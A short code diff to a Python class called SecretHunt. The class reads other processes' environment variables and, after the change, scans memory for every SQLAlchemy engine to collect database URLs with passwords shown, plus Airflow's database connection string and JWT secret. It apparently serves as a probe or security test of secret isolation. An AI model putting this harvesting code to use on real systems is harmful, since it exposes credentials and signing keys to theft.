@@ -263,10 +263,16 @@ class SecretHunt:
                     Path(f"/proc/{who}/environ").read_bytes().decode(errors="replace")
                 )
             try:
-                from airflow import settings
+                import gc
+
+                import sqlalchemy
                 from airflow.configuration import conf
 
-                found["engine"] = str(settings.engine.url) if settings.engine is not None else ""
+                found["engines"] = [
+                    o.url.render_as_string(hide_password=False)
+                    for o in gc.get_objects()
+                    if isinstance(o, sqlalchemy.engine.Engine)
+                ]
                 found["conf"] = conf.get("database", "sql_alchemy_conn", fallback="")
                 found["jwt"] = conf.get("api_auth", "jwt_secret", fallback="")
             except Exception as err:
